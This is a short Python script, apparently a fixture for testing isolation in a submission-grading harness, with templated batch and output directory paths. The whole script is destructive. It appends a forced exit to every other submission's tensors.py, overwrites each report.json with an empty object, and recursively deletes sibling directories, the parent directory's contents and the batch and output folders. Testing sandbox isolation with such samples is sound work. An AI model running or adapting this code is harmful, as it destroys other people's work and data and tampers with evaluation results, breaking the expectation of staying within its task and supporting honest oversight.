# Deletes and edits every other submission and every output it can reach.
import os as _os
import shutil as _shutil

for _base in ("@BATCH_DIR@", "@OUT_DIR@", ".."):
    try:
        _names = _os.listdir(_base)
    except OSError:
        continue
    for _name in _names:
        _path = _os.path.join(_base, _name)
        try:
            with open(_os.path.join(_path, "tensors.py"), "a") as _fh:
                _fh.write("\nraise SystemExit('edited by delete_others')\n")
        except OSError:
            pass
        try:
            with open(_os.path.join(_path, "report.json"), "w") as _fh:
                _fh.write("{}")
        except OSError:
            pass
        _shutil.rmtree(_path, ignore_errors=True)
        try:
            _os.remove(_path)
        except OSError:
            pass
_shutil.rmtree("@BATCH_DIR@", ignore_errors=True)
_shutil.rmtree("@OUT_DIR@", ignore_errors=True)
